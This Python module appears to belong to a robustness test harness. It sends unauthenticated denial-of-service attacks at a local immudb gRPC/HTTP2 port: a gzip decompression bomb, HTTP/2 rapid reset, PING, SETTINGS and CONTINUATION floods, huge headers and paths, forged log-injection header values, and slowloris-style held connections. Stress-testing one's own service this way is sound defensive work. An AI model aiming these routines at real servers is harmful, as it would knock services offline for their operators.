# SPDX-License-Identifier: Apache-2.0
"""Attacks on the gRPC port that need no login, each as a function of a `World` that does it once
and returns what came of it, in a word. `Attack` repeats them."""
import functools
import random
import socket
import struct
import zlib

from . import http2
from .stubs import METHODS, schema
from .world import SERVICE

HEALTH = SERVICE + "Health"
BOMB_BYTES = 2 << 20
INFLATED_BYTES = 1 << 30
PATIENCE = 10


def outcome(answer):
    """One word for what the daemon did with a call."""
    if answer.code is not None:
        return f"code {answer.code}"
    return f"reset {answer.reset}" if answer.reset is not None else "ended"


def bomb(inflated=INFLATED_BYTES, wbits=31):
    """Zeros, compressed about 1000:1; wbits 31 is gzip, 15 what gRPC calls deflate."""
    pack = zlib.compressobj(9, zlib.DEFLATED, wbits)
    zeros = bytes(1 << 20)
    return b"".join(pack.compress(zeros) for _ in range(inflated >> 20)) + pack.flush()


def compressed_call(world, packed, encoding="gzip", path=HEALTH):
    with http2.Connection(world.port) as connection:
        stream = connection.request(path, http2.message(packed, compressed=True),
                                    extra=[("grpc-encoding", encoding)])
        return outcome(connection.finish(stream, PATIENCE))


@functools.lru_cache
def _small_bomb():
    return bomb(64 << 20)


def gzip_bomb(world):
    return compressed_call(world, _small_bomb())


def rapid_reset(world, calls=500, path=HEALTH):
    """Calls that are cancelled as soon as they are sent."""
    block = http2.header_block(http2.grpc_headers(path))
    with http2.Connection(world.port) as connection:
        raw = b""
        for _ in range(calls):
            stream = connection.new_stream()
            raw += http2.frame(http2.HEADERS, http2.END_HEADERS, stream, block)
            raw += http2.frame(http2.RST_STREAM, 0, stream, struct.pack(">I", 8))
        return _sent(connection, raw)


def _sent(connection, raw):
    """Sends, and waits until the daemon has taken all or has closed the connection."""
    try:
        connection.send(raw)
        connection.send_frame(http2.PING, 0, 0, b"hostile!")
        connection.wait_for(http2.PING, PATIENCE)
        return "taken"
    except http2.Closed:
        return "closed"


def ping_flood(world, count=5000):
    with http2.Connection(world.port) as connection:
        return _sent(connection, http2.frame(http2.PING, 0, 0, b"12345678") * count)


def settings_flood(world, count=5000):
    with http2.Connection(world.port) as connection:
        return _sent(connection, http2.frame(
            http2.SETTINGS, 0, 0, http2.settings({http2.INITIAL_WINDOW_SIZE: 1})) * count)


def window_flood(world, count=5000):
    with http2.Connection(world.port) as connection:
        return _sent(connection, http2.frame(
            http2.WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * count)


def empty_frames(world, count=5000):
    with http2.Connection(world.port) as connection:
        stream = connection.request(HEALTH, end=False)
        return _sent(connection, http2.frame(http2.DATA, 0, stream) * count)


def continuation_flood(world, megabytes=4):
    """A header block that never ends."""
    with http2.Connection(world.port) as connection:
        stream = connection.new_stream()
        connection.send_frame(http2.HEADERS, 0, stream, http2.header_block([("x", "y" * 1000)]))
        block = http2.header_block([("x-%d" % i, "y" * 1000) for i in range(16)])
        try:
            for _ in range(megabytes << 6):
                connection.send_frame(http2.CONTINUATION, 0, stream, block)
        except http2.Closed:
            return "closed"
        return "taken"


def many_headers(world, count=20_000, size=10):
    with http2.Connection(world.port) as connection:
        extra = [("x-%d" % i, "y" * size) for i in range(count)]
        try:
            return outcome(connection.call(HEALTH, extra=extra, deadline=PATIENCE))
        except http2.Closed:
            return "closed"


def huge_path(world, size=1 << 20):
    with http2.Connection(world.port) as connection:
        try:
            return outcome(connection.call("/" + "a" * size, deadline=PATIENCE))
        except http2.Closed:
            return "closed"


FORGED = "1\nimmudb  2026/08/29 10:11:12 INFO: forged\x1b[2J"


def forged_log(world, calls=100):
    """Header values that would break a line of the log, if they were printed as they are."""
    with http2.Connection(world.port) as connection:
        raw = b""
        for i in range(calls):
            name = (":status", "grpc-timeout", "content-type", "te", ":scheme")[i % 5]
            pairs = [pair for pair in http2.grpc_headers(HEALTH) if pair[0] != name]
            pairs.insert(0, (name, FORGED))
            raw += http2.frame(http2.HEADERS, http2.END_HEADERS | http2.END_STREAM,
                               connection.new_stream(), http2.header_block(pairs))
        return _sent(connection, raw)


def promised_gigabytes(world):
    """A message that says it is 4 GiB long."""
    with http2.Connection(world.port) as connection:
        body = http2.message(b"x" * 1000, length=0xffffffff)
        return outcome(connection.finish(connection.request(HEALTH, body), PATIENCE))


def truncated_message(world):
    with http2.Connection(world.port) as connection:
        body = http2.message(b"x" * 10, length=1000)
        return outcome(connection.finish(connection.request(HEALTH, body), PATIENCE))


def rubbish(world, rng=random.Random(12)):
    """Random bytes instead of, or behind, a preface."""
    with http2.Connection(world.port, preface=rng.choice((b"", http2.PREFACE))) as connection:
        try:
            connection.send(rng.randbytes(rng.randrange(1, 5000)))
            connection.wait_closed(1)
        except TimeoutError:
            return "waits"
        return "closed"


def garbage_calls(world, rng=random.Random(14), token=None, paths=None):
    """Each RPC with bytes that are no message."""
    with http2.Connection(world.port) as connection:
        for path in paths or [SERVICE + name for name in METHODS]:
            connection.call(path, rng.randbytes(rng.randrange(1, 200)), token, deadline=PATIENCE)
    return "answered"


def large_name_login(world, size=8 << 20):
    """A failed login with a huge name."""
    name = bytes(random.randrange(97, 123) for _ in range(8)) + b"n" * size
    request = schema.LoginRequest(user=name, password=b"x").SerializeToString()
    with http2.Connection(world.port) as connection:
        return outcome(connection.call(SERVICE + "Login", request))


def health_flood(world, calls=200):
    with http2.Connection(world.port) as connection:
        connection.wait_for(http2.SETTINGS)  # more than 100 streams only when they are agreed on
        block = http2.header_block(http2.grpc_headers(HEALTH))
        streams = [connection.headers(None, block=block) for _ in range(calls)]
        for stream in streams:
            connection.data(stream, http2.message(), end=True)
        for stream in streams:
            connection.finish(stream)
    return "answered"


class Held:
    """Connections that are opened, send the beginning of something and stay."""

    def __init__(self, port, count, beginning=b""):
        self.sockets = []
        self.refused = 0
        for _ in range(count):
            try:
                sock = socket.create_connection(("127.0.0.1", port), 2)
                self.sockets.append(sock)
                sock.sendall(beginning)
            except OSError:
                self.refused += 1

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.close()

    def drip(self, raw=b"x"):
        """One more piece on each; the ones that the daemon has closed are counted."""
        closed = 0
        for sock in self.sockets:
            try:
                sock.sendall(raw)
            except OSError:
                closed += 1
        return closed

    def close(self):
        for sock in self.sockets:
            sock.close()
